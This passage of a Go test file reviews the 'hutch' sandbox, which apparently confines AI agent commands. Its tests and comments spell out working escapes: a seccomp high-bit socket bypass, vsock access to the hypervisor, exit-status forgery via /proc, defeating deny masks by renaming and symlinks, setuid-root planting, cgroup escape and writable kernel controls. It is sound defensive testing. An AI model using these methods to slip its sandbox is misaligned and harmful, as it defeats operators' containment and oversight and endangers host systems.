package isolated_test

// Review 2 of the isolated tier: each test below demonstrates one escape or
// guarantee violation and FAILS while the bug is present.
//
// Attacks that need real system calls run this test binary inside the
// sandbox with HUTCH_R2 naming the attack (see r2Init); they print what
// happened and "r2 NAME done".

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/hutchsandbox/hutch/policy"
	"github.com/hutchsandbox/hutch/sandbox"
	"github.com/hutchsandbox/hutch/sandbox/isolated"
)

func init() { r2Init() }

func r2Init() {
	name := os.Getenv("HUTCH_R2")
	if name == "" {
		return
	}
	args := os.Args[len(os.Args)-countArgs():]
	switch name {
	case "unix-hibit":
		r2UnixHiBit(args[0])
	case "int80":
		r2Int80(args[0])
	case "vsock":
		r2Vsock()
	}
	fmt.Printf("r2 %s done\n", name)
	os.Exit(0)
}

// r2attack runs one of the attacks above inside a one-shot sandbox.
func (e *env) r2attack(t *testing.T, pol policy.Policy, name string, args ...string) string {
	t.Helper()
	self, _ := os.Executable()
	r := e.runWith(t, pol, sandbox.Command{Args: append([]string{self, "-test.run=^$"}, args...),
		Env: map[string]string{"HUTCH_R2": name}, Timeout: 10 * time.Second})
	out := string(r.Stdout) + string(r.Stderr)
	if !strings.Contains(out, "r2 "+name+" done") {
		t.Fatalf("attack %s did not run to the end (exit %d): %s", name, r.ExitCode, out)
	}
	return out
}

// tryRun is runWith for attacks whose fix may be a refusal: ok is false
// when the sandbox would not be built (it failed closed).
func (e *env) tryRun(t *testing.T, pol policy.Policy, c sandbox.Command) (sandbox.Result, bool) {
	t.Helper()
	if c.Timeout == 0 {
		c.Timeout = 10 * time.Second
	}
	r, err := isolated.Run(bg, pol, c)
	if err != nil {
		t.Logf("the sandbox was not built (fails closed): %v", err)
		return r, false
	}
	return r, true
}

// hostUnixSocket listens on a unix socket in a fresh directory and reports
// whether anything connected.
func hostUnixSocket(t *testing.T) (dir, path string, connected func() bool) {
	t.Helper()
	dir = t.TempDir()
	path = filepath.Join(dir, "agent.sock")
	ln, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	got := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			got <- struct{}{}
			c.Close()
		}
	}()
	return dir, path, func() bool {
		select {
		case <-got:
			return true
		case <-time.After(300 * time.Millisecond):
			return false
		}
	}
}

// ---------------------------------------------------------------------------
// Finding: seccomp compares socket's 64-bit argument, the kernel reads an
// int. socket(1<<32|AF_UNIX, ...) passes the filter and makes an AF_UNIX
// socket, which connects to a host socket in a readable directory.

func r2UnixHiBit(path string) {
	fd, _, errno := unix.Syscall(unix.SYS_SOCKET, 1<<32|unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if errno != 0 {
		fmt.Println("socket BLOCKED", errno)
		return
	}
	err := unix.Connect(int(fd), &unix.SockaddrUnix{Name: path})
	fmt.Println("socket ALLOWED, connect:", err)
}

func TestReview2UnixSocketHighBits(t *testing.T) {
	e := newEnv(t)
	dir, path, connected := hostUnixSocket(t)
	out := e.r2attack(t, e.pol.Extend(policy.Policy{Read: []string{dir}}), "unix-hibit", path)
	if strings.Contains(out, "ALLOWED") {
		t.Errorf("an AF_UNIX socket was created past seccomp: %s", out)
	}
	if connected() {
		t.Error("the host's unix socket accepted a connection from the sandbox")
	}
}

// ---------------------------------------------------------------------------
// Finding: network "none" leaves AF_VSOCK open. vsock is not confined by the
// network namespace: on a VM (Firecracker, WSL2, cloud guests with
// virtio-vsock) the command can connect to services of the hypervisor host
// and listen for it.

func r2Vsock() {
	// Only the socket: the other side of vsock is the hypervisor's.
	fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	if err != nil {
		fmt.Println("vsock socket BLOCKED", err)
		return
	}
	unix.Close(fd)
	fmt.Println("vsock socket ALLOWED")
}

func TestReview2VsockWithNetworkNone(t *testing.T) {
	e := newEnv(t)
	if _, err := os.Stat("/dev/vsock"); err != nil {
		t.Skip("no vsock transport on this host")
	}
	out := e.r2attack(t, e.pol, "vsock")
	if strings.Contains(out, "ALLOWED") {
		t.Errorf("network none, yet an AF_VSOCK socket (to the hypervisor host) works: %s", out)
	}
}

// ---------------------------------------------------------------------------
// Finding: a command forges its own result in a session. The exec helper
// confines only the thread that starts the command; through that thread's
// /proc/PID/task/TID entry (same uid, no capabilities, same Landlock
// domain: ptrace access is granted) the command reopens the helper's
// status pipe, fd 4, and writes its own status. The init then cannot parse
// two records and falls back to the helper's exit code: 0.

const forgeScript = `for p in /proc/[0-9]*; do
  case "$(tr '\0' ' ' < $p/cmdline)" in hutch-sandbox-exec*) H=${p#/proc/};; esac
done
T=$(grep -l 'CapEff:.0000000000000000' /proc/$H/task/*/status | head -1 | xargs dirname)
printf '{"exited":true,"exit_code":0}' > $T/fd/4 && echo FORGED
exit 3`

func TestReview2ForgedStatusThroughProc(t *testing.T) {
	e := newEnv(t)
	sb, err := isolated.New(bg, e.pol)
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	r, err := sb.Exec(bg, sandbox.Command{Shell: forgeScript, Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if r.ExitCode != 3 {
		t.Errorf("the command exited 3 but the result says %d (stdout %q, stderr %q)", r.ExitCode, r.Stdout, r.Stderr)
	}
}

// ---------------------------------------------------------------------------
// Finding: denied paths are masked by name when the sandbox is built. A
// command that may write the parent of a denied path renames it (only the
// mask itself is a mount point); the next sandbox with the same policy
// finds nothing at the denied name and masks nothing, so the secret is
// readable at its new name.

func TestReview2DenyDefeatedByRenamingTheParent(t *testing.T) {
	e := newEnv(t)
	os.MkdirAll(filepath.Join(e.work, "config"), 0o755)
	os.WriteFile(filepath.Join(e.work, "config", "secret.env"), []byte("PASSWORD=hunter2"), 0o644)
	os.MkdirAll(filepath.Join(e.work, "data", "keys"), 0o755)
	os.WriteFile(filepath.Join(e.work, "data", "keys", "id"), []byte("PRIVATE-KEY"), 0o644)
	pol := e.pol.Extend(policy.Policy{Deny: []string{filepath.Join(e.work, "config", "secret.env"), filepath.Join(e.work, "data", "keys")}})
	// Control: denied in the first sandbox.
	r := e.runWith(t, pol, sh("cat config/secret.env; ls data/keys; mv config config2 && mv data data2 && echo MOVED"))
	if strings.Contains(string(r.Stdout), "hunter2") || strings.Contains(string(r.Stdout), "id") {
		t.Fatalf("control: denied content visible: %q", r.Stdout)
	}
	t.Logf("first sandbox: %q %q", r.Stdout, r.Stderr)
	// The same policy, a new sandbox.
	r, ok := e.tryRun(t, pol, sh("cat config2/secret.env; echo; cat data2/keys/id"))
	if ok && strings.Contains(string(r.Stdout), "hunter2") || strings.Contains(string(r.Stdout), "PRIVATE-KEY") {
		t.Errorf("denied content read in the next sandbox with the same policy: %q", r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding: bindPath resolves a policy path on the host with symbolic links
// followed in every component but the last. A command that may write a
// parent of a more specific policy path (here the workspace, with
// lib/data readable inside it) replaces a component with a relative link;
// the next sandbox binds whatever host directory the link names, and
// Landlock (opened through the same links) allows it too. (The link's
// target must also exist in the half-built new root, which holds "/" and
// every ancestor of a policy path: "..", "../..", ... all qualify.) With
// a nested writable path the same trick gives write access.

func TestReview2NestedBindFollowsPlantedSymlink(t *testing.T) {
	e := newEnv(t)
	os.MkdirAll(filepath.Join(e.work, "lib", "data"), 0o755)
	// A host directory outside the policy: a sibling of the workspace.
	secretDir := filepath.Join(filepath.Dir(e.work), "data")
	os.MkdirAll(secretDir, 0o755)
	os.WriteFile(filepath.Join(secretDir, "host-secret"), []byte("TOP-SECRET-2"), 0o644)
	pol := e.pol.Extend(policy.Policy{Read: []string{filepath.Join(e.work, "lib", "data")}})
	if r := e.runWith(t, pol, sh("cat ../data/host-secret")); strings.Contains(string(r.Stdout), "TOP-SECRET-2") {
		t.Fatal("control: the sibling directory is visible without the link")
	}
	r := e.runWith(t, pol, sh("mv lib lib.orig && ln -s .. lib && echo PLANTED"))
	if !strings.Contains(string(r.Stdout), "PLANTED") {
		if strings.Contains(string(r.Stderr), "busy") {
			return // the directories above a nested policy path are pinned: fixed
		}
		t.Fatalf("could not plant the link: %q %q", r.Stdout, r.Stderr)
	}
	// The next sandbox refuses to build (the policy path now goes through
	// a link) rather than bind what the link names.
	r, err := isolated.Run(bg, pol, sh("cat lib/data/host-secret"))
	if err == nil && strings.Contains(string(r.Stdout), "TOP-SECRET-2") {
		t.Errorf("a host directory outside the policy was bound into the sandbox: %q", r.Stdout)
	}
	if err != nil && !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("refused, but without saying why: %v", err)
	}
}

// ---------------------------------------------------------------------------
// Finding: New hangs forever when the sandbox cannot be built or its
// context ends during setup. On any error after the init started, New
// calls s.Close, which waits for the control socket's EOF; but New itself
// still holds the init's end (sandboxEnd, closed only by New's deferred
// Close), so EOF never comes. A command can arrange the failure for the
// next sandbox: here it replaces a denied file with a link to a directory
// (deny then bind-mounts a file on a directory: ENOTDIR).

func newWithin(pol policy.Policy, ctx context.Context, d time.Duration) (returned bool, err error) {
	done := make(chan error, 1)
	go func() {
		sb, err := isolated.New(ctx, pol)
		if sb != nil {
			sb.Close()
		}
		done <- err
	}()
	select {
	case err := <-done:
		return true, err
	case <-time.After(d):
		return false, nil // the goroutine stays blocked: that is the bug
	}
}

func TestReview2NewHangsOnSetupError(t *testing.T) {
	e := newEnv(t)
	os.MkdirAll(filepath.Join(e.work, "sub"), 0o755)
	os.Symlink("sub", filepath.Join(e.work, ".env")) // what a command may leave behind
	pol := e.pol.Extend(policy.Policy{Deny: []string{filepath.Join(e.work, ".env")}})
	if ok, err := newWithin(pol, bg, 5*time.Second); !ok {
		t.Error("New did not return within 5 s after the sandbox failed to build")
	} else {
		t.Logf("New: %v", err)
	}
	ctx, cancel := context.WithCancel(bg)
	cancel()
	if ok, err := newWithin(e.pol, ctx, 5*time.Second); !ok {
		t.Error("New with a cancelled context did not return within 5 s")
	} else {
		t.Logf("New (cancelled): %v", err)
	}
}

// ---------------------------------------------------------------------------
// Finding: with "/" readable, remountTree finds no mount to make read-only
// (dst is "/newroot/", so neither "mp == dst" nor the "dst/" prefix ever
// matches): every host submount stays writable in the sandbox's mount
// layer, and only the top mount becomes read-only later by accident. The
// command is still stopped by Landlock, but the init is not Landlocked:
// write_file writes the host's file in a read-only policy.

func TestReview2ReadRootLeavesSubmountsWritable(t *testing.T) {
	newEnv(t)
	dir := t.TempDir()
	if err := unix.Mount("tmpfs", dir, "tmpfs", 0, "size=1m"); err != nil {
		t.Skipf("cannot mount a host tmpfs for the test: %v", err)
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	pol := policy.Default().Extend(policy.Policy{Read: []string{"/"}, Dir: dir})
	sb, err := isolated.New(bg, pol)
	if errors.Is(err, sandbox.ErrConfig) && strings.Contains(err.Error(), "whole host") {
		return // refusing a policy that reads "/" is a fix too
	}
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	r, _ := sb.Exec(bg, sandbox.Command{Shell: "grep ' " + dir + " ' /proc/self/mountinfo", Timeout: 10 * time.Second})
	if strings.Contains(string(r.Stdout), " rw,") {
		t.Errorf("a host mount under a read-only policy path is writable in the sandbox: %s", r.Stdout)
	}
	if err := sb.Write(bg, "written-by-file-tool", []byte("x")); err == nil {
		t.Error("write_file changed a host directory the policy only reads")
	}
	if _, err := os.Stat(filepath.Join(dir, "written-by-file-tool")); err == nil {
		t.Error("the file is on the host")
	}
}

// ---------------------------------------------------------------------------
// Finding: hutch running as root maps the sandbox's root to the host's
// root. With no capability it still owns every root-owned file: under the
// default policy (which reads /etc) it reads /etc/shadow and the SSH host
// keys, which no unprivileged user can; and only Landlock stops it from
// writing root-owned /proc/sys entries such as kernel/core_pattern.

func TestReview2RootOwnedSecretsReadable(t *testing.T) {
	e := newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("hutch is not running as root")
	}
	fi, err := os.Stat("/etc/shadow")
	if err != nil || fi.Mode().Perm()&0o004 != 0 {
		t.Skip("no private /etc/shadow here")
	}
	r := e.run(t, sh("head -c 5 /etc/shadow && echo && echo READ-SHADOW; id"))
	if strings.Contains(string(r.Stdout), "READ-SHADOW") {
		t.Errorf("the sandbox reads the host's /etc/shadow (mode %v): %q", fi.Mode().Perm(), r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding: cancelling an Exec can leave the command running. The host sends
// "cancel" right after "exec"; the init handles each request in its own
// goroutine and registers the exec only after the helper has started, so a
// cancel that arrives first finds nothing to kill and is dropped. Exec has
// returned context.Canceled, yet the command runs to the end (up to the
// policy's timeout, 120 s by default) and changes files.

func TestReview2CancelledExecKeepsRunning(t *testing.T) {
	e := newEnv(t)
	sb, err := isolated.New(bg, e.pol)
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	// The race is the init's: a few tries make it show.
	for i := range 5 {
		ctx, cancel := context.WithCancel(bg)
		cancel()
		marker := fmt.Sprintf("after-cancel-%d.txt", i)
		_, xerr := sb.Exec(ctx, sandbox.Command{Shell: "sleep 1; echo ran > " + marker})
		if xerr == nil {
			continue
		}
		time.Sleep(1500 * time.Millisecond)
		if _, err := os.Stat(filepath.Join(e.work, marker)); err == nil {
			t.Fatalf("try %d: Exec returned %q, yet the command kept running and wrote a file a second later", i, xerr)
		}
	}
}

// ---------------------------------------------------------------------------
// Finding: the process limit fails open on a host with a memory cgroup but
// no pids controller (cgroup v1 without pids, as on older kernels and some
// container hosts). newCgroup returns a group (memory only), so New's
// "refuse a process limit that rlimits cannot enforce for root" check never
// runs; the exec helper sets RLIMIT_NPROC, which the kernel ignores for the
// host's root, and the fork bomb is unbounded. The test hides the pids
// hierarchy in a private mount namespace (unshare -m) and reruns itself
// there.

func TestReview2ProcessLimitFailsOpenWithoutPidsController(t *testing.T) {
	if os.Getenv("HUTCH_R2_INNER") == "pids" {
		e := newEnv(t)
		pol := e.pol.Extend(policy.Policy{Limits: policy.Limits{Processes: 16}})
		r, err := isolated.Run(bg, pol, sandbox.Command{Shell: "i=0; while [ $i -lt 60 ]; do sleep 3 & i=$((i+1)); done; echo alive $(ls -d /proc/[0-9]* | wc -l)", Timeout: 10 * time.Second})
		if errors.Is(err, sandbox.ErrUnsupported) {
			fmt.Printf("INNER refused: %v\n", err) // refusing is the right answer
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		n, _ := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(string(r.Stdout)), "alive")))
		fmt.Printf("INNER processes=%d limit=%q exit=%d\n", n, r.Limit, r.ExitCode)
		if n > 20 {
			t.Errorf("%d processes alive at once under a limit of 16", n)
		}
		return
	}
	newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("needs root (as hutch runs in CI and containers)")
	}
	if _, err := os.Stat("/sys/fs/cgroup/memory/cgroup.procs"); err != nil {
		t.Skip("no cgroup v1 memory hierarchy here")
	}
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("no unshare(1)")
	}
	self, _ := os.Executable()
	c := exec.Command("unshare", "-m", "--propagation", "private", "sh", "-c",
		`mount -t tmpfs none /sys/fs/cgroup/pids && exec "$0" -test.run='^TestReview2ProcessLimitFailsOpenWithoutPidsController$' -test.v`, self)
	c.Env = append(os.Environ(), "HUTCH_R2_INNER=pids")
	out, err := c.CombinedOutput()
	if !strings.Contains(string(out), "INNER") {
		t.Fatalf("inner run failed: %v\n%s", err, out)
	}
	if err != nil {
		t.Errorf("without a pids controller the process limit is not enforced (New did not refuse either):\n%s", out)
	}
}

// ---------------------------------------------------------------------------
// Finding: the sandbox's control groups are made at the top of each
// hierarchy (/sys/fs/cgroup/memory/hutch-…), not below the group hutch
// itself runs in. Moving the init there takes the whole sandbox out of the
// limits the host put on hutch (a container's or a systemd unit's memory
// and pids budget): a policy limit of 1 GiB escapes a 256 MiB container.

func ownCgroup(controller string) string {
	b, _ := os.ReadFile("/proc/self/cgroup")
	for _, line := range strings.Split(string(b), "\n") {
		parts := strings.SplitN(line, ":", 3)
		if len(parts) == 3 && (parts[1] == controller || strings.Contains(","+parts[1]+",", ","+controller+",")) {
			return parts[2]
		}
	}
	return ""
}

func TestReview2CgroupEscapesHutchsOwnGroup(t *testing.T) {
	e := newEnv(t)
	own := ownCgroup("memory")
	if own == "" || own == "/" {
		t.Skip("hutch runs in the root memory cgroup here: nothing to escape")
	}
	// The sandbox sees its own groups as "/" (a cgroup namespace), so
	// look from the host, while a command runs: its memory group must be
	// below hutch's own.
	pol := e.pol.Extend(policy.Policy{Limits: policy.Limits{Memory: 1 << 30}})
	done := make(chan struct{})
	go func() { defer close(done); e.runWith(t, pol, sh("sleep 3")) }()
	var found []string
	for deadline := time.Now().Add(3 * time.Second); len(found) == 0 && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		dirs, _ := filepath.Glob(filepath.Join("/sys/fs/cgroup/memory", own, "hutch-*", "cgroup.procs"))
		for _, d := range dirs {
			if b, _ := os.ReadFile(d); len(b) > 0 {
				found = append(found, filepath.Dir(d))
			}
		}
	}
	<-done
	if len(found) == 0 {
		top, _ := filepath.Glob("/sys/fs/cgroup/memory/hutch-*")
		t.Errorf("hutch runs in memory cgroup %s; no sandbox group with processes below it (at the top: %q): outside hutch's own limits", own, top)
	}
}

// ---------------------------------------------------------------------------
// Finding (same root cause as the forged status): in a one-shot run the
// command's parent is the init itself, and the thread that started it is
// confined alone. Through /proc/1/task/TID the command reads the init's
// memory (and lists its descriptors: the control socket, host cgroup files
// the Go runtime keeps open). Only the missing ptrace and Landlock's
// refusal of writes under /proc stop it from writing there; with ptrace
// through the i386 ABI (see TestReview2SeccompI386ABI) it can take over
// the init, whose other threads hold every capability, no Landlock
// domain, and the control socket.

func TestReview2InitMemoryReadable(t *testing.T) {
	e := newEnv(t)
	r := e.run(t, sh(`for m in /proc/1/task/*/mem; do
  if dd if=$m bs=4 count=1 skip=1048576 2>/dev/null | grep -q ELF; then echo "READ $m"; fi
done; ls -l /proc/1/task/*/fd 2>/dev/null | grep -c socket`))
	if strings.Contains(string(r.Stdout), "READ") {
		t.Errorf("the command reads the init's memory: %q", r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding: when hutch runs as root, a sandboxed command ("root with no
// power outside") creates set-user-ID-root executables on the host: it is
// the owner of what it writes (uid 0), so chmod 4755 keeps the bit. nosuid
// on the sandbox's binds and no_new_privs only protect the sandbox; on the
// host, anyone who can reach the workspace runs the planted file as root.

func TestReview2SetuidRootPlantedOnHost(t *testing.T) {
	e := newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("hutch is not running as root")
	}
	r := e.run(t, sh("cp /usr/bin/id ./rootid && chmod 4755 ./rootid && echo PLANTED"))
	if !strings.Contains(string(r.Stdout), "PLANTED") {
		// Refused (the fix); check the other ways to the same bits too.
		if !strings.Contains(string(r.Stderr), "Operation not permitted") {
			t.Fatalf("could not plant, but not because it was refused: %q %q", r.Stdout, r.Stderr)
		}
		for _, script := range []string{"chmod u+s /tmp/x 2>&1 || true; touch ./y && chmod g+s ./y", "install -m 4755 /usr/bin/id ./z", "umask 0; python3 -c \"import os; os.close(os.open('w', os.O_CREAT|os.O_WRONLY, 0o4755))\""} {
			r := e.run(t, sh(script))
			for _, name := range []string{"y", "z", "w"} {
				if fi, err := os.Stat(filepath.Join(e.work, name)); err == nil && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
					t.Errorf("%q made a set-ID file %s (%v): %s", script, name, fi.Mode(), r.Stderr)
				}
			}
		}
		return
	}
	fi, err := os.Stat(filepath.Join(e.work, "rootid"))
	if err != nil {
		t.Fatal(err)
	}
	st := fi.Sys().(*syscall.Stat_t)
	if fi.Mode()&os.ModeSetuid != 0 && st.Uid == 0 {
		t.Errorf("the sandbox left a set-user-ID-root executable on the host: %v uid %d", fi.Mode(), st.Uid)
		// Show it: an unprivileged host user runs it.
		os.Chmod(e.work, 0o755)
		os.Chmod(filepath.Dir(e.work), 0o755)
		c := exec.Command(filepath.Join(e.work, "rootid"))
		c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		out, err := c.CombinedOutput()
		t.Logf("run by uid 65534 on the host: %s %v", out, err)
	}
}

// ---------------------------------------------------------------------------
// Findings on hosts without memory cgroups (not root and no delegated
// subtree: the usual developer machine), where the memory limit becomes
// RLIMIT_DATA. The test hides the cgroup hierarchies in a private mount
// namespace (unshare -m) and reruns itself there.
//
//  1. In a one-shot run (isolated.Run, "hutch run") the init confines
//     itself and applies the limits to its own process: its Go runtime
//     already holds more private writable memory than a small limit, so its
//     next allocation is refused and it dies. Any command that runs longer
//     than a second under --memory 64M fails with "the sandbox's init is
//     gone".
//  2. RLIMIT_DATA does not count the sandbox's tmpfs mounts: /tmp and
//     /dev/shm have no size= option, so a command under a 64 MiB limit
//     keeps hundreds of MiB of RAM (up to half the host's, each) and the
//     result says no limit was hit. (Shared anonymous mappings escape
//     RLIMIT_DATA the same way.)

func TestReview2MemoryLimitWithoutCgroups(t *testing.T) {
	if os.Getenv("HUTCH_R2_INNER") == "mem" {
		e := newEnv(t)
		// No process limit: as root without a pids cgroup none can hold,
		// and the default's would refuse the sandbox.
		pol := e.pol.Extend(policy.Policy{Limits: policy.Limits{Memory: 64 << 20, Processes: policy.Unlimited}})
		// PID 1 is hidden from the command: the host reads its numbers.
		var used, limit int64
		var lerr error = errors.New("PID 1's limits not read")
		var err error
		r := withStarter(t, e.work, func(script string) sandbox.Result {
			var r sandbox.Result
			r, err = isolated.Run(bg, pol, sh(script))
			return r
		}, "sleep 2; echo ok", func(s starter) {
			status, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", s.pid))
			limits, _ := os.ReadFile(fmt.Sprintf("/proc/%d/limits", s.pid))
			for line := range strings.SplitSeq(string(status), "\n") {
				if f := strings.Fields(line); len(f) >= 2 && f[0] == "VmData:" {
					used, _ = strconv.ParseInt(f[1], 10, 64)
					used *= 1024
				}
			}
			for line := range strings.SplitSeq(string(limits), "\n") {
				if f := strings.Fields(line); len(f) >= 4 && strings.HasPrefix(line, "Max data size") {
					limit, lerr = strconv.ParseInt(f[3], 10, 64)
					if f[3] == "unlimited" { // PID 1 is not bound, the command is
						limit, lerr = -1, nil
					}
				}
			}
		})
		fmt.Printf("INNER one-shot: err=%v exit=%d out=%q used=%d limit=%d\n", err, r.ExitCode, r.Stdout, used, limit)
		if lerr != nil || used == 0 {
			t.Errorf("PID 1's data size and limit were not read: %d, %v", used, lerr)
		} else if limit >= 0 && used > limit {
			t.Errorf("the one-shot init holds %d bytes of private data under its own RLIMIT_DATA of %d: its next allocation kills it", used, limit)
		}
		if err != nil || !strings.Contains(string(r.Stdout), "ok") {
			t.Errorf("one-shot run of 'sleep 2' under a 64 MiB limit: %v (stdout %q)", err, r.Stdout)
		}
		sb, err := isolated.New(bg, pol)
		if err != nil {
			t.Fatal(err)
		}
		defer sb.Close()
		r, err = sb.Exec(bg, sandbox.Command{Shell: "head -c 300000000 /dev/zero > /dev/shm/big && du -m /dev/shm/big", Timeout: 10 * time.Second})
		fmt.Printf("INNER tmpfs: err=%v exit=%d limit=%q out=%q\n", err, r.ExitCode, r.Limit, r.Stdout)
		if err == nil && r.ExitCode == 0 {
			t.Errorf("a command under a 64 MiB memory limit holds %s MiB of RAM in /dev/shm, limit %q", strings.Fields(string(r.Stdout))[0], r.Limit)
		}
		// The command itself is bound (the rlimit fallback, per process),
		// from its first instruction: awk reads its limits at once.
		r, err = sb.Exec(bg, sandbox.Command{Args: []string{"awk", "/Max data size/ {print $4}", "/proc/self/limits"}})
		if err != nil || strings.TrimSpace(string(r.Stdout)) != "67108864" {
			t.Errorf("the command's own data limit: %q %v, want 67108864", r.Stdout, err)
		}
		return
	}
	newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("needs root to hide the cgroup hierarchies")
	}
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("no unshare(1)")
	}
	self, _ := os.Executable()
	c := exec.Command("unshare", "-m", "--propagation", "private", "sh", "-c",
		`for d in /sys/fs/cgroup /sys/fs/cgroup/memory /sys/fs/cgroup/pids; do [ -d $d ] && mount -t tmpfs none $d; done; exec "$0" -test.run='^TestReview2MemoryLimitWithoutCgroups$' -test.v`, self)
	c.Env = append(os.Environ(), "HUTCH_R2_INNER=mem")
	out, err := c.CombinedOutput()
	if !strings.Contains(string(out), "INNER") {
		t.Fatalf("inner run failed: %v\n%s", err, out)
	}
	if err != nil {
		t.Errorf("the rlimit memory bound:\n%s", out)
	}
	for line := range strings.SplitSeq(string(out), "\n") {
		if strings.HasPrefix(line, "INNER") {
			t.Log(line)
		}
	}
}

// ---------------------------------------------------------------------------
// Finding: a denied path reached through an absolute symbolic link is
// silently not denied. deny() looks the path up while the init's root is
// still the staging tmpfs, where an absolute link target does not exist:
// Lstat fails with ENOENT and deny returns nil ("not visible anyway"). In
// the finished sandbox the same link resolves, and the file is readable.
// (Landlock has no deny rules, so the mask is the only layer for Deny.)

func TestReview2DenyThroughAbsoluteSymlink(t *testing.T) {
	e := newEnv(t)
	real := filepath.Join(e.work, "real-config")
	os.MkdirAll(real, 0o755)
	os.WriteFile(filepath.Join(real, "key.pem"), []byte("PRIVATE-KEY-PEM"), 0o644)
	os.Symlink(real, filepath.Join(e.work, "config")) // config -> /abs/path/real-config
	pol := e.pol.Extend(policy.Policy{Deny: []string{filepath.Join(e.work, "config", "key.pem")}})
	if pol.CanRead(filepath.Join(e.work, "config", "key.pem")) {
		t.Fatal("control: the policy itself says the file is readable")
	}
	r, ok := e.tryRun(t, pol, sh("cat config/key.pem"))
	if ok && strings.Contains(string(r.Stdout), "PRIVATE-KEY-PEM") {
		t.Errorf("a denied path was read through an absolute link: %q", r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding: the mount layer leaves the kernel's root-only controls writable.
// The fresh /proc is read-write, and when hutch runs as root the sandbox's
// uid is the host's root, owner of /proc/sys/*, /proc/sysrq-trigger,
// /proc/irq/* and /proc/bus/pci/* (whose write handlers rely on that
// ownership). Only Landlock, "best effort", stops a write: on a kernel
// without it (or with it left out of lsm=) the command sets
// kernel.core_pattern (host root code execution), reboots the host,
// re-routes its interrupts or writes PCI configuration space. Container
// runtimes mount these read-only for this reason. access(2) shows what mounts and ownership allow, since
// Landlock does not mediate it.

func TestReview2ProcWritableButForLandlock(t *testing.T) {
	e := newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("hutch is not running as root")
	}
	r := e.run(t, sh("for f in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger /proc/irq/default_smp_affinity /proc/bus/pci/00/00.0; do test -w $f && echo WRITABLE $f; done; true"))
	if strings.Contains(string(r.Stdout), "WRITABLE") {
		t.Errorf("without Landlock the command could write these host controls:\n%s", r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding (low): the file tools do not treat a denied file like commands
// do. The init serves read_file with every capability of the user
// namespace, so the mask (an empty file nobody may read) reads as an empty
// file without error, where a command gets EACCES: a model is told the
// denied .env exists and is empty.

func TestReview2FileToolReadsDeniedFileAsEmpty(t *testing.T) {
	e := newEnv(t)
	os.WriteFile(filepath.Join(e.work, ".env"), []byte("PASSWORD"), 0o644)
	pol := e.pol.Extend(policy.Policy{Deny: []string{filepath.Join(e.work, ".env")}})
	sb, err := isolated.New(bg, pol)
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	if r, _ := sb.Exec(bg, sh("cat .env")); r.ExitCode == 0 {
		t.Fatalf("control: the command read the denied file: %q", r.Stdout)
	}
	if b, err := sb.Read(bg, ".env"); err == nil {
		t.Errorf("read_file of a denied file succeeded (%q) where the command gets permission denied", b)
	}
}

// ---------------------------------------------------------------------------
// Finding: in a one-shot run (isolated.Run, "hutch run") what the command
// leaves behind outlives it. The command is the init's child, not PID 1 of
// a namespace of its own, so when it exits its background processes keep
// running; while one holds the output pipe, Run waits for it, up to the
// whole timeout (120 s by default), and it keeps changing files meanwhile.
// In a session the same command returns at once and its leftovers die.

func TestReview2OneShotLeftoversOutliveTheCommand(t *testing.T) {
	e := newEnv(t)
	start := time.Now()
	r, err := isolated.Run(bg, e.pol, sandbox.Command{Shell: "(sleep 1.5; echo late > late.txt) & echo started", Timeout: 8 * time.Second})
	took := time.Since(start)
	if err != nil || !strings.Contains(string(r.Stdout), "started") {
		t.Fatalf("run: %v %+v", err, r)
	}
	if _, err := os.Stat(filepath.Join(e.work, "late.txt")); err == nil {
		t.Errorf("a background process kept running after the command exited and wrote a file (Run took %v)", took.Round(time.Millisecond))
	}
}

// ---------------------------------------------------------------------------
// Finding: the same rename defeats a read-only path nested in a writable
// one ("--write . --read ./vendor/locked"). The ro bind is on the nested
// directory only; a command renames its parent (not a mount point), and
// the next sandbox with the same policy finds nothing to bind at the old
// name: the directory, at its new name, is writable like the rest of the
// workspace.

func TestReview2NestedReadOnlyDefeatedByRenamingTheParent(t *testing.T) {
	e := newEnv(t)
	locked := filepath.Join(e.work, "vendor", "locked")
	os.MkdirAll(locked, 0o755)
	os.WriteFile(filepath.Join(locked, "lib.go"), []byte("package lib"), 0o644)
	pol := e.pol.Extend(policy.Policy{Read: []string{locked}})
	r := e.runWith(t, pol, sh("echo evil > vendor/locked/lib.go; mv vendor vendor2 && echo MOVED"))
	if !strings.Contains(string(r.Stdout), "MOVED") {
		t.Logf("the parent could not be renamed: %q", r.Stderr)
		return
	}
	if b, _ := os.ReadFile(filepath.Join(e.work, "vendor2", "locked", "lib.go")); string(b) != "package lib" {
